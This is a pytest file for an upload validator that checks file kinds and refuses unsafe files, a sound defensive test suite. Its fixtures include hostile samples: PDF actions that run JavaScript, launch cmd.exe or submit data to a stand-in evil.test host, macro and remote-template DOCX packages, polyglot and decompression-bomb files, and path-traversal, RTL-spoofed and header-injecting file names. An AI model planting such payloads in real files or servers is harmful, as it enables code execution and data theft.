"""What a content is, and what is refused in it."""

import mmap
import zipfile
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zhengshu.foundation.files import judging
from zhengshu.foundation.files.judging import (
    FileContentOtherwise,
    FileEmpty,
    FileEncrypted,
    FileFetchesAnother,
    FileHasMacros,
    FileHasScripts,
    FileHidesAnother,
    FileKindNotTaken,
    FileUnfolds,
    judge,
)
from zhengshu.foundation.files.kinds import KINDS
from zhengshu.foundation.files.names import MOST_LETTERS, file_name
from zhengshu.foundation.files.pictures import pixels_of
from zhengshu.foundation.files.tests import contents as made
from zhengshu.kernel.errors import Refused


class TestJudge:
    @pytest.mark.parametrize(
        ("name", "content", "media_type"),
        [
            ("申请书.PDF", made.PDF, "application/pdf"),
            ("a.png", made.PNG, "image/png"),
            ("a.jpeg", made.JPEG, "image/jpeg"),
            ("a.webp", b"RIFF\x10\0\0\0WEBPVP8 ", "image/webp"),
            ("a.mp4", b"\0\0\0\x18ftypmp42" + bytes(16), "video/mp4"),
            ("a.ofd", made.ofd(), "application/ofd"),
            ("a.docx", made.docx(), KINDS[".docx"].media_type),
            ("a.docx", made.linked("hyperlink"), KINDS[".docx"].media_type),
            ("a.txt", "说明，全文。\r\n".encode(), "text/plain"),
            ("a.csv", "编号,名称\n1,申请".encode("gb18030"), "text/csv"),
            (
                "a.pdf",
                made.pdf_with_packed(b"1 0 << /Type /Annot /Contents (JavaScript) >>"),
                "application/pdf",
            ),
            ("a.pdf", made.pdf_with(b"<< /EncryptMetadata false >>"), "application/pdf"),
        ],
    )
    def test_names_the_kind(self, name: str, content: bytes, media_type: str) -> None:
        assert judge(content, name=name).media_type == media_type

    @pytest.mark.parametrize(
        ("name", "content", "refusal"),
        [
            ("a.pdf", b"", FileEmpty),
            ("a.exe", made.PROGRAM, FileKindNotTaken),
            ("a.svg", made.SVG, FileKindNotTaken),
            ("a.html", made.HTML, FileKindNotTaken),
            ("a.zip", made.docx(), FileKindNotTaken),
            ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", FileKindNotTaken),
            ("a.docm", made.docx(), FileKindNotTaken),
            ("pdf", made.PDF, FileKindNotTaken),
            ("a.pdf", made.PROGRAM + made.PDF, FileContentOtherwise),
            ("a.png", made.PDF, FileContentOtherwise),
            ("a.txt", made.HTML, FileContentOtherwise),
            ("a.txt", b"\xef\xbb\xbf \n" + made.SVG, FileContentOtherwise),
            ("a.txt", made.PROGRAM, FileContentOtherwise),
            ("a.csv", b"a,\xff\xff\xff\xff", FileContentOtherwise),
            ("a.docx", made.package({"xl/workbook.xml": b"<x/>"}), FileContentOtherwise),
            ("a.docx", b"PK\x03\x04" + bytes(200), FileContentOtherwise),
            ("a.docx", made.docx()[:-30], FileContentOtherwise),
            ("a.docx", made.package({"word/document.xml": b"", "../x": b""}), FileContentOtherwise),
            ("a.docx", made.docx(word__vbaProject_dot_bin=b"x"), FileHasMacros),
            ("a.docx", made.docx(word__activeX__activeX1_dot_xml=b"x"), FileHasMacros),
            ("a.docx", made.docx(word__embeddings__oleObject1_dot_bin=b"x"), FileHasMacros),
            (
                "a.docx",
                made.package({"[Content_Types].xml": made.MACRO_TYPES, "word/document.xml": b""}),
                FileHasMacros,
            ),
            ("a.docx", made.linked("attachedTemplate"), FileFetchesAnother),
            ("a.docx", made.linked("&#x61;ttachedTemplate"), FileFetchesAnother),
            ("a.docx", made.linked("oleObject", encoding="utf-16"), FileFetchesAnother),
            (
                "a.docx",
                made.package({"word/document.xml": b"", "word/_rels/x.rels": b"<"}),
                FileContentOtherwise,
            ),
            ("a.docx", made.encrypted_package(), FileEncrypted),
            ("a.docx", made.docx(word__media__x_dot_bin=bytes(64 << 20)), FileUnfolds),
            ("a.docx", made.docx() + b"<script>", FileHidesAnother),
            ("a.pdf", made.PDF + made.docx(), FileHidesAnother),
            ("a.jpg", made.JPEG + made.docx(), FileHidesAnother),
            ("a.png", made.PNG[:20] + made.PDF, FileHidesAnother),
            ("a.pdf", made.pdf_with(b"<< /S /JavaScript /JS (app.alert(1)) >>"), FileHasScripts),
            ("a.pdf", made.pdf_with(b"<< /S /J#61va#53cript /JS (app.alert(1)) >>"), FileHasScripts),
            ("a.pdf", made.pdf_with(b"<</S/Launch/F(cmd.exe)>>"), FileHasScripts),
            ("a.pdf", made.pdf_with_packed(b"1 0 << /S /JavaScript >>"), FileHasScripts),
            ("a.pdf", made.pdf_with(b"<< /AcroForm << /XFA 7 0 R >> >>"), FileHasScripts),
            ("a.pdf", made.pdf_with(b"<< /#58FA[(config) 7 0 R] >>"), FileHasScripts),
            ("a.pdf", made.pdf_with(b"<</AA<</O<</S/SubmitForm/F(http://evil.test)>>>>>>"), FileHasScripts),
            ("a.pdf", made.pdf_with(b"<</S/ImportData/F(x.fdf)>>"), FileHasScripts),
            ("a.png", made.png(60_000, 60_000), FileUnfolds),
            ("a.jpg", made.jpeg(65_000, 65_000), FileUnfolds),
            ("a.webp", made.webp(16_000, 16_000), FileUnfolds),
            (
                "a.pdf",
                made.pdf_with(b"<< /Type /ObjStm >>\nstream\nnot packed\nendstream"),
                FileContentOtherwise,
            ),
            ("a.pdf", made.pdf_with(b"<< /Encrypt 5 0 R >>"), FileEncrypted),
        ],
    )
    def test_refuses(self, name: str, content: bytes, refusal: type[Refused]) -> None:
        with pytest.raises(refusal):
            judge(content, name=name)

    def test_refuses_packed_objects_that_unfold(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(judging, "_MOST_OBJECTS", 1000)

        with pytest.raises(FileUnfolds):
            judge(made.pdf_with_packed(bytes(100_000)), name="a.pdf")

    def test_takes_only_what_the_place_takes(self) -> None:
        with pytest.raises(FileKindNotTaken) as refused:
            judge(made.PNG, name="a.png", taken=(".pdf", ".exe"))

        assert refused.value.data["known"] == ".pdf"

    @pytest.mark.parametrize(
        "content",
        [made.png(9933, 14_043), made.jpeg(9933, 14_043), made.webp(9933, 14_043), made.JPEG, made.PNG],
    )
    def test_takes_a_large_scan_and_what_no_program_opens(self, content: bytes) -> None:
        name = {b"\x89": "a.png", b"\xff": "a.jpg"}.get(content[:1], "a.webp")

        assert judge(content, name=name).ending == name[1:]

    def test_looks_no_longer_for_the_frame_of_a_picture_than_it_must(self) -> None:
        assert pixels_of(b"\xff\xd8" + b"\xff\x01" * (8 << 20)) is None

    def test_reads_a_mapped_file(self, tmp_path: Path) -> None:
        path = tmp_path / "a"
        path.write_bytes(made.package({"OFD.xml": bytes(1 << 20)}, method=zipfile.ZIP_STORED))

        with path.open("rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as content:
            assert judge(content, name="a.ofd").ending == ".ofd"

    @given(content=st.binary(max_size=400), kind=st.sampled_from(sorted(KINDS)))
    def test_ends_in_a_kind_or_a_refusal(self, content: bytes, kind: str) -> None:
        begun = KINDS[kind].beginning + content

        with suppress(Refused):
            assert judge(begun, name=f"a{kind}").ending == kind


class TestFileName:
    @pytest.mark.parametrize(
        ("name", "safe"),
        [
            ("../../etc/passwd", "passwd"),
            ("C:\\材料\\营业执照.PDF", "营业执照.PDF"),
            ("a\u202efdp.exe", "afdp.exe"),
            ('a"b\r\nX: 1.pdf', "a_bX_ 1.pdf"),
            (".htaccess", "htaccess"),
            ("\ud800.pdf", "pdf"),
            ("", "file"),
            ("..", "file"),
        ],
    )
    def test_is_made_harmless(self, name: str, safe: str) -> None:
        assert file_name(name) == safe

    @given(name=st.text(max_size=500))
    def test_is_always_one_short_line(self, name: str) -> None:
        safe = file_name(name)

        assert 0 < len(safe) <= MOST_LETTERS
        assert not set(safe) & set('/\\\r\n\0"')
        assert safe.encode()

    def test_keeps_its_ending_when_it_is_long(self) -> None:
        assert file_name("长" * 300 + ".pdf").endswith("长.pdf")
